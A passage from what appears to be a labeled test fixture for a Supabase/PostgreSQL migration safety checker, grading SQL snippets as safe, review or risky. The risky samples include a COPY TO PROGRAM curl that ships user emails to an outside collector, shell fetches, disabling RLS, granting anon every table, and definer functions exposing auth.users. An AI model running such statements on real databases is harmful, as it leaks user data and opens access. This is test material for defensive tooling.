ALTER TABLE ALL IN TABLESPACE pg_default SET TABLESPACE fast_ssd;

-- case: index-set-tablespace
-- expect: review
-- why: rebuilds the index under lock
ALTER INDEX public.orders_user_id_idx SET TABLESPACE fast_ssd;

-- case: reindex-table
-- expect: review
-- why: blocks writes and index use while rebuilding
REINDEX TABLE public.orders;

-- case: reindex-index-concurrently
-- expect: review
-- why: long rebuild; cannot run inside the migration transaction
REINDEX INDEX CONCURRENTLY public.orders_user_id_idx;

-- case: reindex-schema
-- expect: review
-- why: rebuilds every index of the schema
REINDEX SCHEMA public;

-- case: refresh-matview
-- expect: review
-- why: blocks reads of the view while recomputing
REFRESH MATERIALIZED VIEW public.leaderboard;

-- case: refresh-matview-concurrently
-- expect: review
-- why: reads keep working, but a long recompute on production
REFRESH MATERIALIZED VIEW CONCURRENTLY public.leaderboard;

-- case: refresh-matview-created-same-file
-- expect: safe
-- why: fills a materialized view created empty in the same file, private schema
CREATE MATERIALIZED VIEW private.daily_sales AS
SELECT date_trunc('day', created_at) AS day, sum(total) AS total FROM public.orders GROUP BY 1
WITH NO DATA;
REFRESH MATERIALIZED VIEW private.daily_sales;

-- case: lock-table-access-exclusive
-- expect: review
-- why: blocks every read and write for the rest of the migration
LOCK TABLE public.orders IN ACCESS EXCLUSIVE MODE;

-- case: lock-table-share
-- expect: review
-- why: blocks writes while the snapshot copy runs
LOCK TABLE public.orders IN SHARE MODE;
INSERT INTO private.orders_snapshot SELECT * FROM public.orders;

-- case: add-exclude-constraint
-- expect: review
-- why: builds a gist index and checks every row under ACCESS EXCLUSIVE
ALTER TABLE public.bookings ADD CONSTRAINT bookings_no_overlap EXCLUDE USING gist (room_id WITH =, during WITH &&);

-- case: attach-partition
-- expect: review
-- why: scans the partition to prove the bound, locks the parent
ALTER TABLE public.events ATTACH PARTITION public.events_2023 FOR VALUES FROM ('2023-01-01') TO ('2024-01-01');

-- case: attach-default-partition
-- expect: review
-- why: attaching a default partition checks it against every other partition's rows
ALTER TABLE public.events ATTACH PARTITION public.events_other DEFAULT;

-- case: partitioned-table-all-new
-- expect: safe
-- why: parent and partition both created in this file
CREATE TABLE private.metrics (day date NOT NULL, name text NOT NULL, value double precision) PARTITION BY RANGE (day);
CREATE TABLE private.metrics_2025 (LIKE private.metrics);
ALTER TABLE private.metrics ATTACH PARTITION private.metrics_2025 FOR VALUES FROM ('2025-01-01') TO ('2026-01-01');

-- case: detach-partition
-- expect: review
-- why: rows leave the parent's queries but stay in the detached table
ALTER TABLE public.events DETACH PARTITION public.events_2021;

-- case: alter-domain-set-not-null
-- expect: review
-- why: scans every column using the domain under lock
ALTER DOMAIN public.email_address SET NOT NULL;

-- case: alter-domain-add-check
-- expect: review
-- why: validates every stored value of the domain under lock
ALTER DOMAIN public.email_address ADD CONSTRAINT email_has_at CHECK (VALUE LIKE '%@%');

-- case: alter-domain-add-check-not-valid
-- expect: safe
-- why: NOT VALID checks only new values, no scan
ALTER DOMAIN public.email_address ADD CONSTRAINT email_not_blank CHECK (VALUE <> '') NOT VALID;

-- case: alter-domain-drop-constraint
-- expect: review
-- why: removes validation from existing columns
ALTER DOMAIN public.email_address DROP CONSTRAINT email_has_at;

-- case: alter-column-int-to-bigint
-- expect: review
-- why: rewrites the table and its indexes under ACCESS EXCLUSIVE
ALTER TABLE public.orders ALTER COLUMN id TYPE bigint;

-- case: alter-column-text-to-enum
-- expect: review
-- why: rewrite under lock; fails rather than loses on unknown values
ALTER TABLE public.orders ALTER COLUMN status TYPE public.order_status USING status::public.order_status;

-- case: alter-column-numeric-to-integer
-- expect: risky
-- why: the cast rounds away the cents of every total
ALTER TABLE public.orders ALTER COLUMN total TYPE integer USING total::integer;

-- case: alter-column-numeric-scale-down
-- expect: risky
-- why: assignment to numeric(10,0) rounds stored prices silently
ALTER TABLE public.products ALTER COLUMN price TYPE numeric(10,0);

-- case: alter-column-truncate-text
-- expect: risky
-- why: USING left(...) cuts longer bios
ALTER TABLE public.profiles ALTER COLUMN bio TYPE varchar(140) USING left(bio, 140);

-- case: alter-column-timestamp-to-date
-- expect: risky
-- why: the time of day of every row is lost
ALTER TABLE public.orders ALTER COLUMN created_at TYPE date USING created_at::date;

-- case: set-not-null
-- expect: review
-- why: full scan under ACCESS EXCLUSIVE; inserts without a value start failing
ALTER TABLE public.orders ALTER COLUMN user_id SET NOT NULL;

-- case: drop-not-null
-- expect: review
-- why: constraint relaxed; behaviour change only
ALTER TABLE public.orders ALTER COLUMN shipped_at DROP NOT NULL;

-- case: add-fk-validated
-- expect: review
-- why: validates every row while blocking writes to both tables
ALTER TABLE public.orders ADD CONSTRAINT orders_user_id_fkey FOREIGN KEY (user_id) REFERENCES public.users (id);

-- case: add-fk-not-valid
-- expect: safe
-- why: NOT VALID skips the scan; brief lock, new rows checked
ALTER TABLE public.orders ADD CONSTRAINT orders_coupon_id_fkey FOREIGN KEY (coupon_id) REFERENCES public.coupons (id) NOT VALID;

-- case: validate-constraint-alone
-- expect: safe
-- why: validation in its own migration takes a lock that lets reads and writes continue
ALTER TABLE public.orders VALIDATE CONSTRAINT orders_coupon_id_fkey;

-- case: add-fk-not-valid-and-validate-same-file
-- expect: review
-- why: in one transaction the ADD's lock is still held while VALIDATE scans, blocking writes
ALTER TABLE public.orders ADD CONSTRAINT orders_shop_id_fkey FOREIGN KEY (shop_id) REFERENCES public.shops (id) NOT VALID;
ALTER TABLE public.orders VALIDATE CONSTRAINT orders_shop_id_fkey;

-- case: add-check-validated
-- expect: review
-- why: scans every row under ACCESS EXCLUSIVE
ALTER TABLE public.orders ADD CONSTRAINT orders_total_check CHECK (total >= 0);

-- case: add-check-not-valid
-- expect: safe
-- why: NOT VALID, no scan
ALTER TABLE public.orders ADD CONSTRAINT orders_total_nonnegative CHECK (total >= 0) NOT VALID;

-- case: not-null-via-check-same-file
-- expect: review
-- why: the whole pattern in one transaction scans while the ADD's exclusive lock is held
ALTER TABLE public.orders ADD CONSTRAINT orders_user_id_not_null CHECK (user_id IS NOT NULL) NOT VALID;
ALTER TABLE public.orders VALIDATE CONSTRAINT orders_user_id_not_null;
ALTER TABLE public.orders ALTER COLUMN user_id SET NOT NULL;

-- case: add-unique-constraint
-- expect: review
-- why: builds a unique index under lock; duplicates make it fail
ALTER TABLE public.users ADD CONSTRAINT users_username_key UNIQUE (username);

-- case: add-unique-using-index
-- expect: safe
-- why: promotes an index already built concurrently; brief lock, no scan
ALTER TABLE public.users ADD CONSTRAINT users_email_key UNIQUE USING INDEX users_email_idx;

-- case: add-primary-key-existing
-- expect: review
-- why: builds an index and checks NOT NULL on every row under lock
ALTER TABLE public.order_items ADD PRIMARY KEY (order_id, product_id);

-- case: vacuum-full
-- expect: review
-- why: rewrites the table under ACCESS EXCLUSIVE
VACUUM FULL public.orders;

-- case: vacuum-full-options
-- expect: review
-- why: same rewrite, option syntax
VACUUM (FULL, VERBOSE) public.order_items;

-- case: cluster
-- expect: review
-- why: rewrites the table in index order under ACCESS EXCLUSIVE
CLUSTER public.orders USING orders_created_at_idx;

-- case: create-index-existing-table
-- expect: review
-- why: blocks writes to orders for the whole build
CREATE INDEX orders_status_idx ON public.orders (status);

-- case: create-unique-index-existing-table
-- expect: review
-- why: blocks writes during the build and rejects duplicates afterwards
CREATE UNIQUE INDEX users_lower_email_key ON public.users (lower(email));

-- case: create-index-concurrently-alone
-- expect: safe
-- why: built without blocking writes, alone in its file
CREATE INDEX CONCURRENTLY orders_user_id_idx ON public.orders (user_id);

-- case: create-index-concurrently-if-not-exists
-- expect: safe
-- why: concurrent build, alone in its file
CREATE INDEX CONCURRENTLY IF NOT EXISTS orders_created_at_idx ON public.orders (created_at);

-- case: create-unique-index-concurrently
-- expect: review
-- why: no write block, but uniqueness is now enforced and duplicates make it fail
CREATE UNIQUE INDEX CONCURRENTLY users_username_idx ON public.users (username);

-- case: create-index-concurrently-with-others
-- expect: review
-- why: CONCURRENTLY cannot run inside the migration's transaction with other statements
ALTER TABLE public.orders ADD COLUMN source text;
CREATE INDEX CONCURRENTLY orders_source_idx ON public.orders (source);

-- case: add-column-volatile-default
-- expect: review
-- why: gen_random_uuid() is volatile, so every row is rewritten under lock
ALTER TABLE public.orders ADD COLUMN public_id uuid NOT NULL DEFAULT gen_random_uuid();

-- case: add-column-clock-timestamp
-- expect: review
-- why: clock_timestamp() is volatile, table rewrite
ALTER TABLE public.orders ADD COLUMN inserted_at timestamptz DEFAULT clock_timestamp();

-- case: add-column-generated-stored
-- expect: review
-- why: a stored generated column is computed for every row, table rewrite
ALTER TABLE public.orders ADD COLUMN total_with_tax numeric GENERATED ALWAYS AS (total * 1.2) STORED;

-- case: add-column-serial
-- expect: review
-- why: serial's nextval default fills every row, table rewrite
ALTER TABLE public.orders ADD COLUMN legacy_seq serial;

-- case: add-column-with-fk
-- expect: review
-- why: the new foreign key is validated by a scan while ADD COLUMN's exclusive lock is held
ALTER TABLE public.orders ADD COLUMN coupon_id bigint REFERENCES public.coupons (id);

-- case: add-column-not-null-no-default
-- expect: review
-- why: fails on a table with rows; nothing lost
ALTER TABLE public.orders ADD COLUMN region text NOT NULL;

-- case: set-unlogged
-- expect: risky
-- why: rewrites and makes the table vanish on crash recovery and from replicas
ALTER TABLE public.orders SET UNLOGGED;

-- case: set-logged
-- expect: review
-- why: rewrites the table into WAL under lock
ALTER TABLE public.import_rows SET LOGGED;

-- case: set-storage-parameters
-- expect: review
-- why: table setting change
ALTER TABLE public.orders SET (fillfactor = 80, autovacuum_vacuum_scale_factor = 0.02);

-- case: drop-index
-- expect: review
-- why: queries may slow down; blocks the table while dropping
DROP INDEX public.orders_status_idx;

-- case: drop-index-concurrently
-- expect: review
-- why: performance change; cannot run in a transaction block
DROP INDEX CONCURRENTLY IF EXISTS public.orders_status_idx;

-- case: drop-constraint-fk
-- expect: review
-- why: integrity no longer enforced; no data lost
ALTER TABLE public.orders DROP CONSTRAINT orders_user_id_fkey;

-- case: drop-constraint-unique
-- expect: review
-- why: uniqueness no longer enforced, its index goes
ALTER TABLE public.users DROP CONSTRAINT IF EXISTS users_username_key;

-- case: copy-to-server-file
-- expect: risky
-- why: writes a file on the server; rollback does not remove it
COPY public.users TO '/tmp/users.csv' WITH (FORMAT csv, HEADER true);

-- case: copy-query-to-program
-- expect: risky
-- why: runs a shell command that ships user emails off the server
COPY (SELECT id, email FROM auth.users) TO PROGRAM 'curl -s -X POST --data-binary @- https://collector.example.com/users';

-- case: copy-from-program
-- expect: risky
-- why: runs a shell command on the server
COPY public.orders FROM PROGRAM 'curl -s https://example.com/orders.csv' WITH (FORMAT csv);

-- case: copy-from-server-file
-- expect: risky
-- why: reads a server file; depends on and touches state outside the database
CREATE TABLE private.zip_codes (code text PRIMARY KEY, city text);
COPY private.zip_codes FROM '/var/lib/postgresql/zip_codes.csv' WITH (FORMAT csv, HEADER true);

-- case: pg-terminate-backend
-- expect: risky
-- why: kills other sessions; their aborted work is not undone by a rollback of ours
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid();

-- case: pg-terminate-idle-in-transaction
-- expect: risky
-- why: kills sessions of other clients
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle in transaction' AND usename = 'authenticator';

-- case: pg-cancel-backend
-- expect: risky
-- why: cancels other sessions' queries, outside our transaction
SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE query ILIKE '%orders%' AND pid <> pg_backend_pid();

-- case: alter-system-set
-- expect: risky
-- why: writes postgresql.auto.conf; not transactional
ALTER SYSTEM SET max_connections = '500';

-- case: alter-system-reset-all
-- expect: risky
-- why: discards every server setting made with ALTER SYSTEM
ALTER SYSTEM RESET ALL;

-- case: pg-reload-conf
-- expect: risky
-- why: reloads server configuration for every session, no rollback
SELECT pg_reload_conf();

-- case: dblink-exec
-- expect: risky
-- why: deletes rows in another database, committed there regardless of our rollback
SELECT dblink_exec('dbname=analytics', 'DELETE FROM events WHERE created_at < now() - interval ''30 days''');

-- case: dblink-connect
-- expect: risky
-- why: opens a connection outside the transaction with a password in the file
SELECT dblink_connect('remote', 'host=10.0.0.5 dbname=app user=sync password=secret');

-- case: dblink-query
-- expect: risky
-- why: runs a query on a remote server; outside what rollback covers
INSERT INTO private.remote_customers (id, name)
SELECT id, name FROM dblink('host=10.0.0.5 dbname=crm', 'SELECT id, name FROM customers') AS t(id int, name text);

-- case: create-extension-dblink
-- expect: review
-- why: enables cross-database effects; creates functions, exposes nothing yet
CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA extensions;

-- case: handle-new-user-standard
-- expect: review
-- why: a trigger on auth.users: every signup now runs this and fails if it fails
CREATE FUNCTION public.handle_new_user()
RETURNS trigger
LANGUAGE plpgsql
SECURITY DEFINER
SET search_path = ''
AS $$
BEGIN
  INSERT INTO public.profiles (id, email) VALUES (NEW.id, NEW.email);
  RETURN NEW;
END;
$$;
CREATE TRIGGER on_auth_user_created
  AFTER INSERT ON auth.users
  FOR EACH ROW EXECUTE FUNCTION public.handle_new_user();

-- case: handle-new-user-function-only
-- expect: safe
-- why: a new trigger function, pinned search_path, not attached yet; cannot be called as RPC
CREATE FUNCTION public.handle_new_user()
RETURNS trigger
LANGUAGE plpgsql
SECURITY DEFINER
SET search_path = ''
AS $$
BEGIN
  INSERT INTO public.profiles (id) VALUES (NEW.id);
  RETURN NEW;
END;
$$;

-- case: handle-new-user-no-search-path
-- expect: review
-- why: definer function without a pinned search_path, attached to auth.users
CREATE OR REPLACE FUNCTION public.handle_new_user()
RETURNS trigger
LANGUAGE plpgsql
SECURITY DEFINER
AS $$
BEGIN
  INSERT INTO profiles (id, full_name) VALUES (NEW.id, NEW.raw_user_meta_data ->> 'full_name');
  RETURN NEW;
END;
$$;
CREATE TRIGGER on_auth_user_created AFTER INSERT ON auth.users FOR EACH ROW EXECUTE FUNCTION public.handle_new_user();

-- case: handle-new-user-before-insert-returns-null
-- expect: risky
-- why: a BEFORE INSERT trigger on auth.users returning NULL silently drops every signup
CREATE OR REPLACE FUNCTION public.handle_new_user()
RETURNS trigger
LANGUAGE plpgsql
SECURITY DEFINER
SET search_path = ''
AS $$
BEGIN
  INSERT INTO public.profiles (id) VALUES (NEW.id);
  RETURN NULL;
END;
$$;
CREATE TRIGGER before_auth_user_created BEFORE INSERT ON auth.users FOR EACH ROW EXECUTE FUNCTION public.handle_new_user();

-- case: handle-new-user-replace-body
-- expect: review
-- why: replaced body of the live signup trigger function
CREATE OR REPLACE FUNCTION public.handle_new_user()
RETURNS trigger
LANGUAGE plpgsql
SECURITY DEFINER
SET search_path = ''
AS $$
BEGIN
  INSERT INTO public.profiles (id, email, avatar_url)
  VALUES (NEW.id, NEW.email, NEW.raw_user_meta_data ->> 'avatar_url');
  RETURN NEW;
END;
$$;

-- case: storage-policy-anon-all-files
-- expect: risky
-- why: anon can read every object of every bucket
CREATE POLICY "Anyone can read files" ON storage.objects FOR SELECT TO anon USING (true);

-- case: storage-policy-public-bucket-read
-- expect: risky
-- why: everyone, anon included, reads every existing file of the avatars bucket
CREATE POLICY "Avatar images are publicly accessible" ON storage.objects FOR SELECT USING (bucket_id = 'avatars');

-- case: storage-policy-owner-authenticated
-- expect: review
-- why: owner-scoped policy, but on the existing storage.objects table
CREATE POLICY "Users manage own documents" ON storage.objects FOR ALL TO authenticated
USING (bucket_id = 'documents' AND owner_id = (SELECT auth.uid()::text))
WITH CHECK (bucket_id = 'documents' AND owner_id = (SELECT auth.uid()::text));

-- case: storage-drop-policy
-- expect: review
-- why: RLS stays on for storage.objects; uploads or downloads stop working
DROP POLICY IF EXISTS "Users manage own documents" ON storage.objects;

-- case: storage-bucket-private
-- expect: safe
-- why: a new private bucket; no file reachable without a policy
INSERT INTO storage.buckets (id, name, public) VALUES ('invoices', 'invoices', false);

-- case: storage-bucket-public-new
-- expect: review
-- why: a new public bucket: empty now, its future files readable by URL
INSERT INTO storage.buckets (id, name, public) VALUES ('avatars', 'avatars', true);

-- case: storage-bucket-made-public
-- expect: risky
-- why: every existing invoice file becomes downloadable by anyone
UPDATE storage.buckets SET public = true WHERE id = 'invoices';

-- case: definer-reads-auth-users-default-execute
-- expect: risky
-- why: definer rights over auth.users, EXECUTE defaults to PUBLIC so anon gets any user's email
CREATE FUNCTION public.get_user_email(p_user_id uuid)
RETURNS text
LANGUAGE sql
SECURITY DEFINER
SET search_path = ''
AS $$
  SELECT email FROM auth.users WHERE id = p_user_id;
$$;

-- case: definer-auth-users-granted-anon
-- expect: risky
-- why: explicitly executable by anon, reads every user from auth.users
CREATE OR REPLACE FUNCTION public.list_users()
RETURNS TABLE (id uuid, email text)
LANGUAGE sql
SECURITY DEFINER
SET search_path = ''
AS $$
  SELECT id, email::text FROM auth.users;
$$;
REVOKE EXECUTE ON FUNCTION public.list_users() FROM PUBLIC;
GRANT EXECUTE ON FUNCTION public.list_users() TO anon;

-- case: definer-auth-users-own-email-authenticated
-- expect: review
-- why: reads auth.users with owner rights, limited to the caller and to authenticated
CREATE FUNCTION public.my_email()
RETURNS text
LANGUAGE sql
STABLE
SECURITY DEFINER
SET search_path = ''
AS $$
  SELECT email FROM auth.users WHERE id = auth.uid();
$$;
REVOKE EXECUTE ON FUNCTION public.my_email() FROM PUBLIC, anon;
GRANT EXECUTE ON FUNCTION public.my_email() TO authenticated;

-- case: definer-no-search-path-public
-- expect: review
-- why: definer function without pinned search_path, callable by anon; returns only a count
CREATE FUNCTION public.order_count()
RETURNS bigint
LANGUAGE sql
SECURITY DEFINER
AS $$
  SELECT count(*) FROM orders;
$$;

-- case: definer-own-row-restricted
-- expect: safe
-- why: pinned search_path, caller's own row only, not executable by anon
CREATE FUNCTION public.my_profile()
RETURNS SETOF public.profiles
LANGUAGE sql
STABLE
SECURITY DEFINER
SET search_path = ''
AS $$
  SELECT * FROM public.profiles WHERE id = auth.uid();
$$;
REVOKE EXECUTE ON FUNCTION public.my_profile() FROM PUBLIC, anon;
GRANT EXECUTE ON FUNCTION public.my_profile() TO authenticated;

-- case: definer-private-schema-helper
-- expect: safe
-- why: policy helper in a schema the API does not expose, pinned search_path
CREATE SCHEMA IF NOT EXISTS private;
CREATE FUNCTION private.user_org_ids()
RETURNS SETOF uuid
LANGUAGE sql
STABLE
SECURITY DEFINER
SET search_path = ''
AS $$
  SELECT org_id FROM public.memberships WHERE user_id = auth.uid();
$$;

-- case: definer-deletes-any-orders
-- expect: risky
-- why: anon can call it (default EXECUTE) and delete any user's orders with owner rights
CREATE FUNCTION public.clear_orders(p_user uuid)
RETURNS void
LANGUAGE sql
SECURITY DEFINER
SET search_path = ''
AS $$
  DELETE FROM public.orders WHERE user_id = p_user;
$$;

-- case: revoke-execute-existing-function
-- expect: review
-- why: API callers lose access to an existing function
REVOKE EXECUTE ON FUNCTION public.calculate_total(bigint) FROM PUBLIC;

-- case: grant-execute-invoker-function-anon
-- expect: review
-- why: privilege change on an existing function; body runs with the caller's rights
GRANT EXECUTE ON FUNCTION public.calculate_total(bigint) TO anon;

-- case: revoke-execute-new-function
-- expect: safe
-- why: a new function closed to API roles
CREATE FUNCTION public.internal_session_count() RETURNS bigint LANGUAGE sql AS $$ SELECT count(*) FROM public.sessions; $$;
REVOKE EXECUTE ON FUNCTION public.internal_session_count() FROM PUBLIC, anon, authenticated;

-- case: do-block-drop-tables-loop
-- expect: risky
-- why: the loop drops every tmp_ table in public with CASCADE
DO $$
DECLARE
  r record;
BEGIN
  FOR r IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' AND tablename LIKE 'tmp_%' LOOP
    EXECUTE format('DROP TABLE IF EXISTS public.%I CASCADE', r.tablename);
  END LOOP;
END
$$;

-- case: do-block-create-type-if-missing
-- expect: safe
-- why: the block only creates an enum when it does not exist
DO $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace WHERE n.nspname = 'public' AND t.typname = 'order_priority') THEN
    CREATE TYPE public.order_priority AS ENUM ('low', 'normal', 'high');
  END IF;
END
$$;

-- case: do-block-add-column-if-missing
-- expect: safe
-- why: the block only adds a nullable column
DO $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM information_schema.columns WHERE table_schema = 'public' AND table_name = 'orders' AND column_name = 'notes') THEN
    ALTER TABLE public.orders ADD COLUMN notes text;
  END IF;
END
$$;

-- case: do-block-enable-rls-all
-- expect: safe
-- why: the block turns RLS on for every public table
DO $$
DECLARE
  t text;
BEGIN
  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP
    EXECUTE format('ALTER TABLE public.%I ENABLE ROW LEVEL SECURITY', t);
  END LOOP;
END
$$;

-- case: do-block-disable-rls-all
-- expect: risky
-- why: the block turns RLS off on every public table
DO $$
DECLARE
  t text;
BEGIN
  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP
    EXECUTE format('ALTER TABLE public.%I DISABLE ROW LEVEL SECURITY', t);
  END LOOP;
END
$$;

-- case: do-block-update-rows
-- expect: risky
-- why: the block overwrites the status of existing orders
DO $$
BEGIN
  UPDATE public.orders SET status = 'expired' WHERE status = 'pending';
  RAISE NOTICE 'expired % orders', 0;
END
$$;

-- case: do-block-grant-anon
-- expect: risky
-- why: the block grants every public table to anon
DO $$
DECLARE
  t text;
BEGIN
  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP
    EXECUTE format('GRANT SELECT ON public.%I TO anon', t);
  END LOOP;
END
$$;

-- case: do-block-assert-only
-- expect: safe
-- why: the block only reads and asserts
DO $$
BEGIN
  ASSERT (SELECT count(*) FROM public.orders WHERE total < 0) = 0, 'negative totals found';
  RAISE NOTICE 'orders look fine';
END
$$;

-- case: do-block-dynamic-unknown
-- expect: review
-- why: executes SQL read from a table; the reviewer cannot see what runs
DO $$
DECLARE
  stmt text;
BEGIN
  SELECT sql INTO stmt FROM ops.pending_statements ORDER BY id LIMIT 1;
  EXECUTE stmt;
END
$$;

-- case: do-block-terminate-sessions
-- expect: risky
-- why: the block kills other sessions
DO $$
BEGIN
  PERFORM pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'legacy_worker';
END
$$;

-- case: seed-insert-new-table
-- expect: safe
-- why: seed rows into a table created in the same file
CREATE TABLE public.plans_catalog (id text PRIMARY KEY, name text NOT NULL, price_cents integer NOT NULL);
ALTER TABLE public.plans_catalog ENABLE ROW LEVEL SECURITY;
INSERT INTO public.plans_catalog (id, name, price_cents) VALUES ('free', 'Free', 0), ('pro', 'Pro', 1900);

-- case: delete-auth-users
-- expect: risky
-- why: deletes accounts and, by cascade, their data
DELETE FROM auth.users WHERE email LIKE '%@test.example.com';

-- case: update-auth-users-app-metadata
-- expect: risky
-- why: overwrites app metadata (roles) of every user
UPDATE auth.users SET raw_app_meta_data = raw_app_meta_data || '{"role": "member"}'::jsonb;

-- case: add-column-auth-users
-- expect: review
-- why: additive, but auth.users is managed by Supabase Auth
ALTER TABLE auth.users ADD COLUMN tenant_id uuid;

-- case: realtime-publication-add
-- expect: review
-- why: changes of messages are streamed by Realtime (RLS still applies)
ALTER PUBLICATION supabase_realtime ADD TABLE public.messages;

-- case: security-label-unknown
-- expect: review
-- why: a masking label changes what readers see; not a statement kind to wave through
SECURITY LABEL FOR anon ON COLUMN public.users.email IS 'MASKED WITH FUNCTION anon.fake_email()';

-- case: call-unknown-procedure
-- expect: review
-- why: calls existing code whose effect the file does not show
CALL public.rebuild_search_index();

-- case: select-unknown-function
-- expect: review
-- why: runs an existing function whose effect the file does not show
SELECT public.archive_old_orders();

-- case: add-column-nullable
-- expect: safe
-- why: nullable column, catalog-only change
ALTER TABLE public.orders ADD COLUMN tracking_number text;

-- case: add-column-if-not-exists-constant-default
-- expect: safe
-- why: constant default stored in the catalog, no rewrite
ALTER TABLE public.orders ADD COLUMN IF NOT EXISTS gift_wrap boolean NOT NULL DEFAULT false;

-- case: add-column-jsonb-constant-default
-- expect: safe
-- why: constant default, no rewrite
ALTER TABLE public.profiles ADD COLUMN settings jsonb NOT NULL DEFAULT '{}'::jsonb;

-- case: add-column-now-default
-- expect: safe
-- why: now() is stable, evaluated once, no rewrite
ALTER TABLE public.orders ADD COLUMN imported_at timestamptz DEFAULT now();

-- case: add-column-with-comment
-- expect: safe
-- why: nullable column and its comment
ALTER TABLE public.profiles ADD COLUMN bio text;
COMMENT ON COLUMN public.profiles.bio IS 'Shown on the public profile page';

-- case: set-local-lock-timeout-add-column
-- expect: safe
-- why: bounded lock wait, then a nullable column
SET LOCAL lock_timeout = '3s';
ALTER TABLE public.orders ADD COLUMN gift_note text;

-- case: comment-on-table
-- expect: safe
-- why: documentation only
COMMENT ON TABLE public.orders IS 'One row per checkout';

-- case: comment-on-function
-- expect: safe
-- why: documentation only
COMMENT ON FUNCTION public.calculate_total(bigint) IS 'Order total including tax';

-- case: create-schema
-- expect: safe
-- why: new empty schema
CREATE SCHEMA IF NOT EXISTS private;

-- case: create-enum-type
-- expect: safe
-- why: new type
CREATE TYPE public.ticket_state AS ENUM ('open', 'pending', 'closed');

-- case: create-domain
-- expect: safe
-- why: new domain
CREATE DOMAIN public.positive_amount AS numeric CHECK (VALUE > 0);

-- case: create-extension-pgcrypto
-- expect: safe
-- why: additive extension in the extensions schema
CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA extensions;

-- case: create-sequence
-- expect: safe
-- why: new sequence
CREATE SEQUENCE public.ticket_number_seq START 1000;

-- case: create-function-invoker
-- expect: safe
-- why: new immutable helper with caller's rights
CREATE FUNCTION public.slugify(t text)
RETURNS text
LANGUAGE sql
IMMUTABLE
AS $$
  SELECT lower(regexp_replace(t, '[^a-zA-Z0-9]+', '-', 'g'));
$$;

-- case: create-table-fk-to-existing
-- expect: safe
-- why: new table referencing orders; empty, so no validation scan
CREATE TABLE public.order_notes (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  order_id bigint NOT NULL REFERENCES public.orders (id) ON DELETE CASCADE,
  note text NOT NULL
);
ALTER TABLE public.order_notes ENABLE ROW LEVEL SECURITY;

-- case: create-table-as-private-copy
-- expect: safe
-- why: copies old orders into a new private table; the originals stay
CREATE SCHEMA IF NOT EXISTS private;
CREATE TABLE private.orders_2019 AS SELECT * FROM public.orders WHERE created_at < '2020-01-01';

-- case: create-table-rls-no-policy
-- expect: safe
-- why: new table, RLS on, closed to the API until a policy is written
CREATE TABLE public.api_keys (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), owner uuid NOT NULL, hash text NOT NULL);
ALTER TABLE public.api_keys ENABLE ROW LEVEL SECURITY;

-- case: create-index-new-table
-- expect: safe
-- why: index on a table created in the same file
CREATE TABLE public.bookmarks (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  user_id uuid NOT NULL,
  url text NOT NULL
);
ALTER TABLE public.bookmarks ENABLE ROW LEVEL SECURITY;
CREATE INDEX bookmarks_user_id_idx ON public.bookmarks (user_id);
CREATE UNIQUE INDEX bookmarks_user_url_key ON public.bookmarks (user_id, url);

-- case: create-table-with-constraints
-- expect: safe
-- why: new table with checks and a unique constraint
CREATE TABLE public.coupons (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  code text NOT NULL UNIQUE,
  percent_off integer NOT NULL CHECK (percent_off BETWEEN 1 AND 100),
  expires_at timestamptz
);
ALTER TABLE public.coupons ENABLE ROW LEVEL SECURITY;

-- case: analyze-table
-- expect: safe
-- why: refreshes planner statistics, no lock on writes
ANALYZE public.orders;

-- case: create-statistics
-- expect: safe
-- why: extended statistics object, no data touched
CREATE STATISTICS public.orders_user_status_stats (dependencies) ON user_id, status FROM public.orders;

-- case: set-default-on-column-without-default
-- expect: safe
-- why: catalog-only; applies to future inserts that omit the column
ALTER TABLE public.orders ALTER COLUMN currency SET DEFAULT 'EUR';

-- case: create-view-private-new-table
-- expect: safe
-- why: new table and a view on it in a schema the API does not expose
CREATE TABLE private.signup_events (user_id uuid NOT NULL, at timestamptz NOT NULL DEFAULT now());
CREATE VIEW private.signups_per_day AS
SELECT date_trunc('day', at) AS day, count(*) AS n FROM private.signup_events GROUP BY 1;

-- case: create-table-and-function-and-grant
-- expect: safe
-- why: new table with RLS, an invoker function over it, granted to authenticated
CREATE TABLE public.reactions (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  user_id uuid NOT NULL DEFAULT auth.uid(),
  post_id bigint NOT NULL,
  emoji text NOT NULL
);
ALTER TABLE public.reactions ENABLE ROW LEVEL SECURITY;
CREATE POLICY "Own reactions" ON public.reactions FOR ALL TO authenticated USING ((SELECT auth.uid()) = user_id) WITH CHECK ((SELECT auth.uid()) = user_id);
GRANT SELECT, INSERT, DELETE ON public.reactions TO authenticated;
CREATE FUNCTION public.reaction_count(p_post bigint) RETURNS bigint LANGUAGE sql STABLE AS $$ SELECT count(*) FROM public.reactions WHERE post_id = p_post; $$;

-- case: add-column-text-constant-default
-- expect: safe
-- why: constant default kept in the catalog, no rewrite
ALTER TABLE public.profiles ADD COLUMN locale text NOT NULL DEFAULT 'en';

-- case: add-column-integer-default-zero
-- expect: safe
-- why: constant default, no rewrite
ALTER TABLE public.products ADD COLUMN stock integer NOT NULL DEFAULT 0;

-- case: add-column-array-nullable
-- expect: safe
-- why: nullable column
ALTER TABLE public.orders ADD COLUMN tags text[];

-- case: add-column-timestamptz-nullable
-- expect: safe
-- why: nullable column
ALTER TABLE public.profiles ADD COLUMN archived_at timestamptz;

-- case: comment-on-policy
-- expect: safe
-- why: documentation only
COMMENT ON POLICY "Users read own orders" ON public.orders IS 'Customers see only their own orders';

-- case: comment-on-schema-and-index
-- expect: safe
-- why: documentation only
